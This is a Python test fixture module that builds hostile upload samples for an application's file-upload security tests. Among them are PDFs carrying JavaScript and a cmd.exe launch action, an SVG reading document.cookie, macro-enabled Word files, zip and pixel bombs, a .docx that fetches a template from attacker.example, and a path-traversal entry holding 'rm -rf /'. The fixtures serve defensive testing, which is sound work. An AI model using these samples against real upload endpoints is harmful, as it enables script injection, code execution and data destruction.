"""Hostile files, built here byte by byte (nothing is downloaded): each one a way an upload has
been used to attack a reader, a browser or the server (security.md tests 27-29)."""

from __future__ import annotations

import io
import struct
import zipfile
import zlib

from pypdf import PdfWriter
from pypdf.generic import ArrayObject, DictionaryObject, NameObject, TextStringObject

from tests.unit.petitions.samples import docx_letter, pdf_letter

HTML = b"<!DOCTYPE html><html><body><script>fetch('/api/v1/cases')</script></body></html>"


def _pdf(build: object) -> bytes:
    writer = PdfWriter()
    writer.add_blank_page(612, 792)
    build(writer)  # type: ignore[operator]
    out = io.BytesIO()
    writer.write(out)
    return out.getvalue()


def pdf_open_action_javascript() -> bytes:
    def build(writer: PdfWriter) -> None:
        action = DictionaryObject(
            {
                NameObject("/S"): NameObject("/JavaScript"),
                NameObject("/JS"): TextStringObject("app.alert('x')"),
            }
        )
        writer._root_object[NameObject("/OpenAction")] = writer._add_object(action)

    return _pdf(build)


def pdf_document_javascript() -> bytes:
    """Document-level JavaScript in the /Names tree (runs when the file opens)."""

    def build(writer: PdfWriter) -> None:
        action = writer._add_object(
            DictionaryObject(
                {
                    NameObject("/S"): NameObject("/JavaScript"),
                    NameObject("/JS"): TextStringObject("app.alert('x');"),
                }
            )
        )
        tree = DictionaryObject(
            {NameObject("/Names"): ArrayObject([TextStringObject("init"), action])}
        )
        writer._root_object[NameObject("/Names")] = DictionaryObject(
            {NameObject("/JavaScript"): writer._add_object(tree)}
        )

    return _pdf(build)


def pdf_launch_action() -> bytes:
    def build(writer: PdfWriter) -> None:
        launch = DictionaryObject(
            {
                NameObject("/S"): NameObject("/Launch"),
                NameObject("/F"): TextStringObject("cmd.exe"),
            }
        )
        writer.pages[0][NameObject("/AA")] = DictionaryObject({NameObject("/O"): launch})

    return _pdf(build)


def pdf_embedded_file() -> bytes:
    return _pdf(lambda writer: writer.add_attachment("payload.exe", b"MZ\x90\x00"))


def pdf_html_polyglot() -> bytes:
    """A readable PDF that is also an HTML page (the markup after %%EOF)."""
    return pdf_letter("An ordinary letter.") + HTML


def png(width: int = 40, height: int = 30) -> bytes:
    from PIL import Image

    out = io.BytesIO()
    Image.new("RGB", (width, height), (200, 30, 30)).save(out, "PNG")
    return out.getvalue()


def jpeg() -> bytes:
    from PIL import Image

    out = io.BytesIO()
    Image.new("RGB", (40, 30), (30, 30, 200)).save(out, "JPEG")
    return out.getvalue()


def _chunk(kind: bytes, data: bytes) -> bytes:
    return struct.pack(">I", len(data)) + kind + data + struct.pack(">I", zlib.crc32(kind + data))


def png_pixel_bomb(width: int = 50_000, height: int = 50_000) -> bytes:
    """A small PNG whose header claims 50 000 × 50 000 pixels (2.5 gigapixels to decode)."""
    header = struct.pack(">IIBBBBB", width, height, 8, 0, 0, 0, 0)
    return (
        b"\x89PNG\r\n\x1a\n"
        + _chunk(b"IHDR", header)
        + _chunk(b"IDAT", zlib.compress(b"\x00" * 1024))
        + _chunk(b"IEND", b"")
    )


def svg_with_script() -> bytes:
    return (
        b'<?xml version="1.0"?>\n<svg xmlns="http://www.w3.org/2000/svg">'
        b"<script>alert(document.cookie)</script></svg>"
    )


def _zip(members: dict[str, bytes]) -> bytes:
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as archive:
        for name, data in members.items():
            archive.writestr(name, data)
    return out.getvalue()


def _docx_members() -> dict[str, bytes]:
    with zipfile.ZipFile(io.BytesIO(docx_letter("A real letter."))) as archive:
        return {info.filename: archive.read(info) for info in archive.infolist()}


def docm_with_macro() -> bytes:
    members = _docx_members()
    members["[Content_Types].xml"] = members["[Content_Types].xml"].replace(
        b"wordprocessingml.document.main+xml", b"ms-word.document.macroEnabled.main+xml"
    )
    members["word/vbaProject.bin"] = b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1 VBA macro"
    return _zip(members)


def docx_with_activex() -> bytes:
    members = _docx_members()
    members["word/activeX/activeX1.bin"] = b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1 control"
    return _zip(members)


def docx_remote_template() -> bytes:
    """A .docx that fetches a macro template from the network when opened."""
    members = _docx_members()
    members["word/_rels/settings.xml.rels"] = (
        b'<?xml version="1.0"?><Relationships xmlns="http://schemas.openxmlformats.org/package/'
        b'2006/relationships"><Relationship Id="rId1" Type="http://schemas.openxmlformats.org/'
        b'officeDocument/2006/relationships/attachedTemplate" '
        b'Target="http://attacker.example/t.dotm" TargetMode="External"/></Relationships>'
    )
    return _zip(members)


def docx_zip_bomb() -> bytes:
    """A real .docx plus one part that inflates 1000-fold (40 MB of zeros in ~40 KB)."""
    members = _docx_members()
    members["word/media/padding.xml"] = b"0" * 40_000_000
    return _zip(members)


def docx_many_parts() -> bytes:
    members = _docx_members()
    members.update({f"customXml/item{i}.xml": b"<a/>" for i in range(2000)})
    return _zip(members)


def docx_path_traversal() -> bytes:
    members = _docx_members()
    members["../../evil.sh"] = b"#!/bin/sh\nrm -rf /\n"
    return _zip(members)


def plain_zip() -> bytes:
    return _zip({"notes.txt": b"hello"})


def ole_word_97() -> bytes:
    return b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + b"\x00" * 600


def exe() -> bytes:
    return b"MZ\x90\x00\x03\x00\x00\x00" + b"\x00" * 200


#: name -> (bytes, filename sent, browser's content type)
HOSTILE: dict[str, tuple[bytes, str, str]] = {
    "html named .pdf": (HTML, "judgment.pdf", "application/pdf"),
    "html named .txt": (HTML, "notes.txt", "text/plain"),
    "html named .html": (HTML, "page.html", "text/html"),
    "svg with script": (svg_with_script(), "seal.svg", "image/svg+xml"),
    "svg with script named .txt": (svg_with_script(), "seal.txt", "text/plain"),
    "svg with script named .png": (svg_with_script(), "seal.png", "image/png"),
    "pdf with OpenAction javascript": (pdf_open_action_javascript(), "a.pdf", "application/pdf"),
    "pdf with document javascript": (pdf_document_javascript(), "b.pdf", "application/pdf"),
    "pdf with page Launch action": (pdf_launch_action(), "c.pdf", "application/pdf"),
    "pdf with embedded file": (pdf_embedded_file(), "d.pdf", "application/pdf"),
    "pdf/html polyglot": (pdf_html_polyglot(), "e.pdf", "application/pdf"),
    "png with html appended": (png() + HTML, "photo.png", "image/png"),
    "jpeg with html appended": (jpeg() + HTML, "photo.jpg", "image/jpeg"),
    "png pixel bomb": (png_pixel_bomb(), "scan.png", "image/png"),
    "docm with macro": (docm_with_macro(), "letter.docm", "application/octet-stream"),
    "docm with macro named .docx": (docm_with_macro(), "letter.docx", "application/octet-stream"),
    "docx with activex": (docx_with_activex(), "form.docx", "application/octet-stream"),
    "docx with remote template": (docx_remote_template(), "t.docx", "application/octet-stream"),
    "docx zip bomb": (docx_zip_bomb(), "bomb.docx", "application/octet-stream"),
    "docx with 2000 parts": (docx_many_parts(), "parts.docx", "application/octet-stream"),
    "docx with ../ part": (docx_path_traversal(), "trav.docx", "application/octet-stream"),
    "plain zip named .docx": (plain_zip(), "archive.docx", "application/octet-stream"),
    "word 97 .doc": (ole_word_97(), "old.doc", "application/msword"),
    "executable named .pdf": (exe(), "scan.pdf", "application/pdf"),
}
